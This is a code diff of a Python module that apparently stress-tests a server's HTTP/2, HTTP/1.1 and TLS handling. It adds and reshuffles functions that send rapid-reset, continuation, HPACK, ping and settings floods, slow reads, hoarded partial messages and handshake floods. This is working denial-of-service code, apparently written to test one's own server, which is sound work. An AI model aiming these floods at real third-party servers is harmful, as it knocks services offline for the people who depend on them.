@@ -2,12 +2,10 @@
 new connection whenever the server has ended the last."""
 
 import contextlib
-import socket
 import struct
-import time
 
 from wire import (CONTINUATION, DATA, END_HEADERS, END_STREAM, ENDLESS_CALL, EMPTY_MESSAGE, GET, HEADERS,
-                  INITIAL_WINDOW_SIZE, OPEN_CALL, PING, PREFACE, PRIORITY, SETTINGS, data,
+                  INITIAL_WINDOW_SIZE, OPEN_CALL, PING, PREFACE, PRIORITY, SETTINGS, WINDOW_UPDATE, data,
                   incremental, length, literal, raw, reset, settings, window_update)
 
 PAGE = [*GET[:2], (":path", "/metrics"), GET[3]]
@@ -20,69 +18,6 @@ def block(fields):
 
 def headers(stream, fields, end=False):
     return raw(HEADERS, END_HEADERS | (END_STREAM if end else 0), stream, block(fields))
-
-
-class Attacker:
-    """One connection after another, each flooded with what `frames` gives for it."""
-
-    def __init__(self, address, stop, reads=True):
-        self.address, self.stop, self.reads = address, stop, reads
-        self.connections = self.sent = 0
-
-    def flood(self, start, again):
-        """Sends `start()` on every new connection, then `again(round)` for ever."""
-        while not self.stop.is_set():
-            with contextlib.suppress(OSError), self.connect() as connection:
-                connection.sendall(PREFACE + settings() + start())
-                turn = 0
-                while not self.stop.is_set():
-                    # Never more than the kernel takes: what matters is what the server does with it.
-                    self.sent += connection.send(again(turn))
-                    turn += 1
-                    if self.reads:
-                        self.drop(connection)
-
-    def connect(self):
-        self.connections += 1
-        connection = socket.create_connection(self.address, timeout=5)
-        if not self.reads:
-            connection.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
-        return connection
-
-    @staticmethod
-    def drop(connection):
-        """Takes whatever came, without waiting for it."""
-        with contextlib.suppress(BlockingIOError):
-            while True:
-                if not connection.recv(1 << 16, socket.MSG_DONTWAIT):
-                    raise ConnectionError("closed")
-
-    def hold(self, count, opening, every=None, seconds=0.2):
-        """Keeps `count` connections open, begun with `opening(n)` and, where it is given, fed with `every(turn)`."""
-        held, turn = set(), 0
-        with contextlib.ExitStack() as stack:
-            while not self.stop.is_set():
-                while len(held) < count and not self.stop.is_set():
-                    try:
-                        connection = stack.enter_context(self.connect())
-                        connection.sendall(opening(self.connections))
-                    except OSError:
-                        break
-                    connection.setblocking(False)
-                    held.add(connection)
-                turn += 1
-                for connection in list(held):
-                    try:
-                        if every:
-                            connection.send(every(turn))
-                        if self.reads:
-                            self.drop(connection)
-                    except BlockingIOError:
-                        pass
-                    except OSError:
-                        held.discard(connection)
-                        connection.close()
-                time.sleep(seconds)
 
 
 def streams(first, count):
@@ -148,7 +83,8 @@ def zero_windows(attacker):
 def shrinking_windows(attacker):
     def again(turn):
         return b"".join(settings({INITIAL_WINDOW_SIZE: size}) for size in (0, 65_535) * 20)
-    attacker.flood(lambda: b"".join(headers(stream, PAGE, True) for stream in streams(0, 200)), again)
+    # Calls that wait for their message: requests that are answered would cost more than the windows.
+    attacker.flood(lambda: b"".join(headers(stream, OPEN_CALL) for stream in streams(0, 200)), again)
 
 
 def slow_headers(attacker):
@@ -179,15 +115,94 @@ def half_open(attacker):
                   seconds=1)
 
 
-ATTACKS = [rapid_reset, made_you_reset, continuation_flood, empty_frames, settings_flood, ping_flood, priority_flood,
-           window_update_flood, unknown_frames, hpack_bomb, zero_windows, shrinking_windows, slow_headers,
-           slow_http1_headers, slow_read, stream_overrun, half_open]
+def http1_pipelining(attacker):
+    attacker.send_for_ever(lambda: b"", lambda turn: b"GET /metrics HTTP/1.1\r\nHost: a\r\n\r\n" * 500)
 
 
-def run(attack, address, stop, report):
-    """In a process of its own."""
-    import os
-    os.nice(19)
-    attacker = Attacker(address, stop)
-    attack(attacker)
-    report.put((attacker.connections, attacker.sent))
+def http1_pipelining_unread(attacker):
+    attacker.reads = False
+    request = b"GET /metrics HTTP/1.1\r\nHost: a\r\n\r\n"
+    attacker.hold(50, lambda n: request, lambda turn: request * 500, 0.02)
+
+
+def unfinished_messages(attacker):
+    # Each stream declares 4 MiB and sends all but a little, as far as the windows let it.
+    attacker.hold_connections(30, lambda connection: Hoard(connection, streams(0, 16), 4 << 20))
+
+
+class Hoard:
+    """A connection whose streams send the beginnings of messages, within the windows that the server grants."""
+
+    def __init__(self, connection, numbers, size):
+        self.connection, self.size = connection, size
+        self.left = dict.fromkeys(numbers, size - 1)
+        self.window, self.windows = 65_535, dict.fromkeys(numbers, 65_535)
+        self.unread, self.unsent = b"", PREFACE + settings()
+        for number in numbers:
+            self.unsent += headers(number, OPEN_CALL)
+            self.put(number, b"\0" + struct.pack(">I", size))
+
+    def put(self, number, payload):
+        self.unsent += data(number, payload)
+        self.window -= len(payload)
+        self.windows[number] -= len(payload)
+
+    def turn(self):
+        """Reads what the server grants, and sends as much as the socket takes."""
+        self.read()
+        for number, left in self.left.items():
+            while len(self.unsent) < 1 << 18 and (size := min(16_384, left, self.window, self.windows[number])) > 0:
+                self.put(number, bytes(size))
+                left -= size
+            self.left[number] = left
+        with contextlib.suppress(BlockingIOError):
+            self.unsent = self.unsent[self.connection.send(self.unsent):]
+
+    def read(self):
+        with contextlib.suppress(BlockingIOError):
+            if not (more := self.connection.recv(1 << 16)):
+                raise ConnectionError("closed")
+            self.unread += more
+        while len(self.unread) >= 9 + int.from_bytes(self.unread[:3], "big"):
+            end = 9 + int.from_bytes(self.unread[:3], "big")
+            kind, flags, stream = struct.unpack(">BBI", self.unread[3:9])
+            self.take(kind, flags, stream, self.unread[9:end])
+            self.unread = self.unread[end:]
+
+    def take(self, kind, flags, stream, payload):
+        if kind == WINDOW_UPDATE and stream == 0:
+            self.window += int.from_bytes(payload, "big")
+        elif kind == WINDOW_UPDATE and stream in self.windows:
+            self.windows[stream] += int.from_bytes(payload, "big")
+        elif kind == SETTINGS and not flags:
+            for name, value in struct.iter_unpack(">HI", payload):
+                if name == INITIAL_WINDOW_SIZE:
+                    self.windows = {stream: window + value - 65_535 for stream, window in self.windows.items()}
+            self.unsent += raw(SETTINGS, 1)
+        elif stream in self.left and kind != WINDOW_UPDATE:
+            # The server has ended it.
+            self.left[stream] = 0
+
+
+def tls_handshakes(attacker):
+    # Whole handshakes, each of which costs the server a signature.
+    while attacker.active:
+        with contextlib.suppress(OSError):
+            attacker.connect().close()
+            attacker.held.value = 1
+
+
+def metrics_pages(attacker):
+    # The largest page that anybody may ask for, a hundred at a time, taken as fast as it comes.
+    wide = settings({INITIAL_WINDOW_SIZE: 0x7fff_ffff}) + window_update(0, 0x7fff_0000 - 65_535)
+    attacker.flood(lambda: wide, lambda turn: b"".join(
+        headers(stream, PAGE, True) for stream in streams(turn * 100, 100)))
+
+
+PLAIN = [rapid_reset, made_you_reset, continuation_flood, empty_frames, settings_flood, ping_flood, priority_flood,
+         window_update_flood, unknown_frames, hpack_bomb, zero_windows, shrinking_windows, slow_headers,
+         slow_http1_headers, slow_read, stream_overrun, half_open, http1_pipelining, http1_pipelining_unread,
+         unfinished_messages, metrics_pages]
+# What TLS adds: records to be opened and closed, buffers for each connection, and handshakes.
+OVER_TLS = [rapid_reset, made_you_reset, empty_frames, settings_flood, ping_flood, zero_windows, slow_read,
+            http1_pipelining, http1_pipelining_unread, tls_handshakes]
